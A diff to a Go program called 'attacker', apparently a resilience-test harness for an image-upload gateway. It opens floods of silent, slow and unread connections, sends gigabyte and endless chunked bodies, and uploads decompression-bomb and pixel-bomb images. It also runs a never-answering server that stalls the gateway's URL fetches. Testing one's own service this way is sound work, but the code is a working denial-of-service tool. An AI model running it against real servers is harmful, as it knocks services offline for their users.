@@ -1,30 +1,57 @@
-// Command attacker does to a server what hostile clients do, all at the same time and at little cost to itself, so that
-// what its other clients lose is lost to the server and not to this program:
+// Command attacker does to a gateway what one hostile client can do, with little bandwidth and little CPU of its own, so
+// that what honest clients lose is lost to the gateway and not to this program:
 //
-//	attacker -target http://127.0.0.1:9696/predict [-kinds slow,huge]
+//	attacker -target http://127.0.0.1:9696/predict [-kinds slow,huge] [-listen 127.0.0.1:9999] [-admin 127.0.0.1:9697]
 //
-//	silent   200 connections that never speak
-//	half     10 that send half a request and close their sending half
-//	slow     20 uploads of a byte a second
-//	huge     two bodies of 1 GB a second, by Content-Length, as fast as they are taken
-//	endless  2 bodies of chunks that don't end, a megabyte a second
-//	pixels   two PNGs a second of 24 kB that are 400 megapixels
-//	text     two PNGs a second of 16 kB whose text inflates to 16 MB
+// Kinds, and what each is meant to use up. Connections:
 //
-// Whoever is hung up on comes again after a second. It prints "ready" when all have begun, goes on until SIGTERM, and then
-// prints as JSON what they were answered: {"slow": {"408": 20}, …}; "" is a connection that ended without an answer.
+//	silent     1,100 connections that send nothing: all that a gateway accepts (GATEWAY_MAX_CONNECTIONS)
+//	half       10 that send half a request and shut down their sending side
+//	slow       20 uploads of one byte a second
+//	unread     40 that pipeline 64 kB of GETs and read no answer: worker threads, and memory for answers
+//	unfinished 130 bodies of 1 MB without their last byte: the buffer for bodies (GATEWAY_MAX_BUFFERED_BYTES)
+//
+// Bodies:
+//
+//	huge       two of 1 GB, by Content-Length, as fast as they are read
+//	endless    two of chunks that don't end, a megabyte a second
+//	bytes      two of chunks of one byte, half a megabyte a second each: work of the event loop
+//	extension  one chunk extension of 18 MB that never ends, then 20 bytes at a time: quadratic work, where there is any
+//	json       two of 20 MB of JSON objects: memory, and the interpreter's lock
+//
+// Photos, two at a time:
+//
+//	pixels     a PNG of 24 kB that has 400 megapixels
+//	text       a PNG of 16 kB with text that inflates to 16 MB
+//	thin       a PNG of 1 x 52 million pixels: memory for each row
+//	scans      a progressive JPEG of 500 kB with 6,000 scans: CPU that no deadline ends
+//	runs       a BMP of 1 kB, run-length encoded, of 52 million pixels
+//	segments   a JPEG with 3.3 million segments, 20 MB
+//	chunks     a PNG with 1.6 million private chunks, 19 MB
+//	profiles   a PNG with 19,000 colour profiles that inflate to 1 MB each
+//	comments   a GIF with 10 million blocks of comment, 20 MB
+//
+// Photos' servers (with -listen, an address that the gateway may fetch from; this program listens there and never answers):
+//
+//	urls       three requests of two slow URLs each: the workers
+//	fetches    33 requests of one slow URL each: all photos in flight
+//
+// The admin port (with -admin): 100 connections that send nothing and 3 that read nothing: the kubelet's probes.
+//
+//	admin
+//
+// A connection that the gateway closes is made again after a second. The program prints "ready" when all kinds have begun,
+// continues until SIGTERM, and then prints two lines of JSON: the answers' status codes, {"slow": {"408": 20}, …}, where ""
+// counts connections that were closed without an answer; and the bytes that it sent, {"slow": 1234, …}.
 package main
 
 import (
 	"bufio"
-	"bytes"
-	"compress/zlib"
 	"context"
-	"encoding/binary"
 	"encoding/json"
+	"errors"
 	"flag"
 	"fmt"
-	"hash/crc32"
 	"io"
 	"log"
 	"net"
@@ -36,6 +63,7 @@ import (
 	"strconv"
 	"strings"
 	"sync"
+	"sync/atomic"
 	"syscall"
 	"time"
 )
@@ -52,6 +80,7 @@ type attack struct {
 	kinds   []string
 	mutex   sync.Mutex
 	answers map[string]map[string]int
+	sent    map[string]*atomic.Int64
 	begun   sync.WaitGroup
 }
 
@@ -59,13 +88,18 @@ func main() {
 	log.SetFlags(0)
 	log.SetPrefix("attacker: ")
 	target := flag.String("target", "", "`URL` to attack")
-	kinds := flag.String("kinds", "silent,half,slow,huge,endless,pixels,text", "which of them, separated by commas")
+	kinds := flag.String("kinds", "", "which kinds, separated by commas (all but those that need another flag)")
+	listen := flag.String("listen", "", "`address` for the slow server of photos")
+	admin := flag.String("admin", "", "`address` of the admin port")
 	flag.Parse()
 	parsed, err := url.Parse(*target)
 	if err != nil || parsed.Scheme != "http" || parsed.Host == "" {
 		log.Fatalf("-target %q is no http://host:port/path", *target)
 	}
-	a := &attack{address: parsed.Host, kinds: strings.Split(*kinds, ","), answers: map[string]map[string]int{}}
+	a := &attack{address: parsed.Host, answers: map[string]map[string]int{}, sent: map[string]*atomic.Int64{}}
+	if *kinds != "" {
+		a.kinds = strings.Split(*kinds, ",")
+	}
 	if parsed.Port() == "" {
 		a.address = net.JoinHostPort(parsed.Hostname(), "80")
 	}
@@ -74,14 +108,54 @@ func main() {
 	defer stop()
 	a.end = end
 
-	jpeg := a.head + "image/jpeg\r\n"
-	upload := jpeg + "Content-Length: 1048576\r\n\r\n"
-	a.start("silent", 200, func(net.Conn) {})
+	a.connections()
+	a.bodies()
+	a.photos()
+	if *listen != "" {
+		a.slowPhotoServer(*listen)
+	}
+	if *admin != "" {
+		a.address = *admin
+		a.start("admin", 100, func(net.Conn) {})
+		a.start("admin", 3, pipelined)
+	}
+	for _, kind := range a.kinds {
+		if a.answers[kind] == nil {
+			log.Fatalf("-kinds %s: there is no kind %s, or it needs -listen or -admin", *kinds, kind)
+		}
+	}
+	a.begun.Wait()
+	fmt.Println("ready")
+	<-end.Done()
+	a.mutex.Lock()
+	defer a.mutex.Unlock()
+	sent := map[string]int64{}
+	for name, bytes := range a.sent {
+		sent[name] = bytes.Load()
+	}
+	output := json.NewEncoder(os.Stdout)
+	if err := errors.Join(output.Encode(a.answers), output.Encode(sent)); err != nil {
+		log.Fatal(err)
+	}
+}
+
+func (a *attack) connections() {
+	upload := a.head + "image/jpeg\r\nContent-Length: 1048576\r\n\r\n"
+	a.start("silent", 1100, func(net.Conn) {})
 	a.start("half", 10, func(conn net.Conn) {
 		io.WriteString(conn, upload+"\xff\xd8")
-		conn.(*net.TCPConn).CloseWrite()
+		conn.(counting).Conn.(*net.TCPConn).CloseWrite()
 	})
 	a.start("slow", 20, func(conn net.Conn) { a.drip(conn, upload+"\xff\xd8", "\xff", time.Second) })
+	a.startUnread("unread", 40)
+	a.start("unfinished", 130, func(conn net.Conn) {
+		io.WriteString(conn, upload)
+		conn.Write(make([]byte, 1048575))
+	})
+}
+
+func (a *attack) bodies() {
+	jpeg := a.head + "image/jpeg\r\n"
 	a.start("huge", 2, func(conn net.Conn) {
 		io.WriteString(conn, jpeg+"Content-Length: "+strconv.Itoa(gb)+"\r\n\r\n")
 		piece := make([]byte, 64<<10)
@@ -91,37 +165,101 @@ func main() {
 			}
 		}
 	})
+	chunked := jpeg + "Transfer-Encoding: chunked\r\n\r\n"
 	chunk := fmt.Sprintf("%x\r\n%s\r\n", 100<<10, make([]byte, 100<<10))
-	a.start("endless", 2, func(conn net.Conn) {
-		a.drip(conn, jpeg+"Transfer-Encoding: chunked\r\n\r\n", chunk, 100*time.Millisecond)
-	})
-	a.start("pixels", 2, a.sends(png(20000, 20000, part("IDAT", deflated(24<<20)))))
-	a.start("text", 2, a.sends(png(100, 100, part("zTXt", append([]byte("a\x00\x00"), deflated(16<<20)...)), part("IDAT", deflated(100*301)))))
-	a.begun.Wait()
-	fmt.Println("ready")
-	<-end.Done()
-	a.mutex.Lock()
-	defer a.mutex.Unlock()
-	if err := json.NewEncoder(os.Stdout).Encode(a.answers); err != nil {
-		log.Fatal(err)
+	a.start("endless", 2, func(conn net.Conn) { a.drip(conn, chunked, chunk, 100*time.Millisecond) })
+	bytes := strings.Repeat("1\r\nx\r\n", 8500)
+	a.start("bytes", 2, func(conn net.Conn) { a.drip(conn, chunked, bytes, 100*time.Millisecond) })
+	extension := chunked + "1;a=" + strings.Repeat("y", 18<<20)
+	a.start("extension", 1, func(conn net.Conn) { a.drip(conn, extension, strings.Repeat("y", 20), 10*time.Millisecond) })
+	objects := `{"url":[` + strings.Repeat(`{"":0},`, 2_800_000) + `0]}`
+	a.start("json", 2, a.sends("application/json", []byte(objects)))
+}
+
+func (a *attack) photos() {
+	for _, photo := range hostilePhotos {
+		if a.wanted(photo.kind) {
+			a.start(photo.kind, 2, a.sends(photo.mediaType, photo.make()))
+		}
 	}
 }
 
-// start has so many clients connect, speak, and wait for what comes, again and again.
-func (a *attack) start(name string, count int, speak func(net.Conn)) {
-	if !slices.Contains(a.kinds, name) {
+// slowPhotoServer accepts connections, reads, and never answers; and has the gateway fetch from it.
+func (a *attack) slowPhotoServer(address string) {
+	listener, err := net.Listen("tcp", address)
+	if err != nil {
+		log.Fatal(err)
+	}
+	context.AfterFunc(a.end, func() { listener.Close() })
+	go func() {
+		for {
+			conn, err := listener.Accept()
+			if err != nil {
+				return
+			}
+			go func() {
+				defer conn.Close()
+				io.Copy(io.Discard, conn)
+			}()
+		}
+	}()
+	one := "http://" + listener.Addr().String() + "/slow.jpg"
+	single := fmt.Appendf(nil, `{"url": %q}`, one)
+	several := fmt.Appendf(nil, `{"urls": [%q, %q]}`, one, one)
+	a.start("fetches", 33, a.sends("application/json", single))
+	a.head = strings.Replace(a.head, "/predict ", "/classify ", 1)
+	a.start("urls", 3, a.sends("application/json", several))
+}
+
+// pipelined asks for more than it will ever read.
+func pipelined(conn net.Conn) {
+	conn.(counting).Conn.(*net.TCPConn).SetReadBuffer(4096)
+	io.WriteString(conn, strings.Repeat("GET /openapi.yaml HTTP/1.1\r\nHost: a\r\n\r\n", 1560))
+}
+
+func (a *attack) wanted(name string) bool { return a.kinds == nil || slices.Contains(a.kinds, name) }
+
+// startUnread has clients ask and read nothing until the gateway closes their connections.
+func (a *attack) startUnread(name string, count int) {
+	a.each(name, count, func(conn net.Conn) {
+		defer conn.Close()
+		go pipelined(conn)
+		// What was sent stays unread; a write that fails says that the connection was closed.
+		for a.end.Err() == nil {
+			time.Sleep(pause)
+			if _, err := io.WriteString(conn, "\r\n"); err != nil {
+				a.count(name, "")
+				return
+			}
+		}
+	})
+}
+
+// start has clients connect, send, and wait for the answer, again and again.
+func (a *attack) start(name string, count int, send func(net.Conn)) {
+	a.each(name, count, func(conn net.Conn) { a.receive(name, conn, send) })
+}
+
+// each has clients connect again and again.
+func (a *attack) each(name string, count int, use func(net.Conn)) {
+	if !a.wanted(name) {
 		return
 	}
-	a.answers[name] = map[string]int{}
+	if a.answers[name] == nil {
+		a.answers[name] = map[string]int{}
+		a.sent[name] = &atomic.Int64{}
+	}
+	sent := a.sent[name]
+	address := a.address
 	a.begun.Add(count)
 	for range count {
 		go func() {
 			first := sync.OnceFunc(a.begun.Done)
 			for a.end.Err() == nil {
-				conn, err := net.DialTimeout("tcp", a.address, 10*time.Second)
+				conn, err := net.DialTimeout("tcp", address, 10*time.Second)
 				first()
 				if err == nil {
-					a.hear(name, conn, speak)
+					use(counting{conn, sent})
 				}
 				time.Sleep(pause)
 			}
@@ -129,15 +267,31 @@ func (a *attack) start(name string, count int, speak func(net.Conn)) {
 	}
 }
 
-// hear counts the answer, which may come before all is said.
-func (a *attack) hear(name string, conn net.Conn, speak func(net.Conn)) {
+// counting is a connection that counts what is sent on it.
+type counting struct {
+	net.Conn
+	sent *atomic.Int64
+}
+
+func (c counting) Write(data []byte) (int, error) {
+	count, err := c.Conn.Write(data)
+	c.sent.Add(int64(count))
+	return count, err
+}
+
+// receive counts the answer, which may be there before all is sent.
+func (a *attack) receive(name string, conn net.Conn, send func(net.Conn)) {
 	defer conn.Close()
 	defer context.AfterFunc(a.end, func() { conn.Close() })()
-	go speak(conn)
+	go send(conn)
 	status := ""
 	if response, err := http.ReadResponse(bufio.NewReader(conn), nil); err == nil {
 		status = strconv.Itoa(response.StatusCode)
 	}
+	a.count(name, status)
+}
+
+func (a *attack) count(name, status string) {
 	if a.end.Err() == nil {
 		a.mutex.Lock()
 		a.answers[name][status]++
@@ -153,29 +307,7 @@ func (a *attack) drip(conn net.Conn, head, piece string, every time.Duration) {
 	}
 }
 
-func (a *attack) sends(photo []byte) func(net.Conn) {
-	request := fmt.Appendf(nil, "%simage/png\r\nContent-Length: %d\r\n\r\n%s", a.head, len(photo), photo)
+func (a *attack) sends(mediaType string, body []byte) func(net.Conn) {
+	request := fmt.Appendf(nil, "%s%s\r\nContent-Length: %d\r\n\r\n%s", a.head, mediaType, len(body), body)
 	return func(conn net.Conn) { conn.Write(request) }
-}
-
-// png is a picture of 8-bit RGB that says that it is so large, with these parts.
-func png(width, height uint32, parts ...[]byte) []byte {
-	size := binary.BigEndian.AppendUint32(binary.BigEndian.AppendUint32(nil, width), height)
-	photo := append([]byte("\x89PNG\r\n\x1a\n"), part("IHDR", append(size, 8, 2, 0, 0, 0))...)
-	return append(append(photo, bytes.Join(parts, nil)...), part("IEND", nil)...)
-}
-
-func part(name string, content []byte) []byte {
-	named := append([]byte(name), content...)
-	out := binary.BigEndian.AppendUint32(nil, uint32(len(content)))
-	return binary.BigEndian.AppendUint32(append(out, named...), crc32.ChecksumIEEE(named))
-}
-
-// deflated is so many zeros, packed a thousand to one.
-func deflated(count int) []byte {
-	var packed bytes.Buffer
-	writer := zlib.NewWriter(&packed)
-	writer.Write(make([]byte, count))
-	writer.Close()
-	return packed.Bytes()
 }
